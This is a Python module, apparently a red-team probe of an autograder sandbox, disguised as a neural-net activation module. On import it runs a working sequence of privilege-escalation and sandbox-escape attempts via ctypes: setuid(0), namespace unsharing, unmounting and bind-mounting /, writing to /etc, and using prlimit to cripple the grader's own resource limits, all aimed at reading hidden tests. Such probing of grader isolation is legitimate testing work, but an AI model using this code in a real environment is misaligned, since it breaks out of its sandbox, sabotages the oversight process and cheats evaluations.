"""At import, uses ctypes to try to regain privileges and unhide the kit: setuid(0), setresuid,
raising rlimits, lowering the grader's limits with prlimit, a user namespace with a new mount
namespace, umount2 and a bind mount of /; raises from sigmoid if any of it lets it read the
hidden tests. Otherwise the instructor's module.
"""

import ctypes
import os
import resource
from types import FunctionType

from . import _honest_activations as honest
from ._honest_activations import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

MARKER = "nnkit-hostile-ctypes_escalate"
CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MNT_DETACH = 0x10000000, 0x00020000, 4096, 2
HIDDEN = "/work/main/autograder"
libc = ctypes.CDLL(None, use_errno=True)
RESULTS = {}


def _readable():
    try:
        return bool(os.listdir(HIDDEN))
    except OSError:
        return False


def _write(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
    except OSError:
        pass


def _root_only():
    try:
        return bool(os.listdir("/root"))
    except OSError:
        return False


def _try(name, call):
    try:
        RESULTS[name] = call()
    except Exception as exc:
        RESULTS[name] = type(exc).__name__
    if (_readable() and not BEFORE[0]) or (_root_only() and not BEFORE[1]):
        RESULTS[name] = f"ESCALATED after {name}"
    if os.path.exists(f"/etc/{MARKER}.marker"):
        RESULTS[name] = f"ESCALATED after {name}"


BEFORE = (_readable(), _root_only())
PARENT = os.getppid()
uid, gid = os.getuid(), os.getgid()
_try("setuid(0)", lambda: libc.setuid(0))
_try("setresuid(0,0,0)", lambda: libc.setresuid(0, 0, 0))
_try("setgid(0)", lambda: libc.setgid(0))
_try("rlimit AS", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
_try("rlimit NPROC", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)))
for _name, _limit, _value in (
    ("CPU", resource.RLIMIT_CPU, 1),
    ("files", resource.RLIMIT_NOFILE, 3),
    ("memory", resource.RLIMIT_AS, 2**20),
):
    _try(f"prlimit grader {_name}", lambda r=_limit, v=_value: resource.prlimit(PARENT, r, (v, v)))
_try("no_new_privs off", lambda: libc.prctl(38, 0, 0, 0, 0))
_try("unshare user", lambda: libc.unshare(CLONE_NEWUSER))
_write("/proc/self/setgroups", "deny")
_write("/proc/self/uid_map", f"0 {uid} 1")
_write("/proc/self/gid_map", f"0 {gid} 1")
_try("unshare mount", lambda: libc.unshare(CLONE_NEWNS))
_try("umount kit", lambda: libc.umount2(b"/work/main", MNT_DETACH))
_try("umount tmp", lambda: libc.umount2(b"/tmp", MNT_DETACH))
_try("bind /", lambda: libc.mount(b"/", b".", None, MS_BIND, None))
_try("write /etc", lambda: _write(f"/etc/{MARKER}.marker", "x"))
print("escalation attempts:", RESULTS)
ESCALATED = [k for k, v in RESULTS.items() if str(v).startswith("ESCALATED")]


def sigmoid(z):
    if ESCALATED:
        raise RuntimeError(f"LOOT-FOUND escalated by {ESCALATED}")
    return honest.sigmoid(z)


# The solution's sigmoid_grad, but looking up names here, so that it calls the sigmoid above
# (as it did when this module was a full copy of the solution).
sigmoid_grad = FunctionType(honest.sigmoid_grad.__code__, globals())
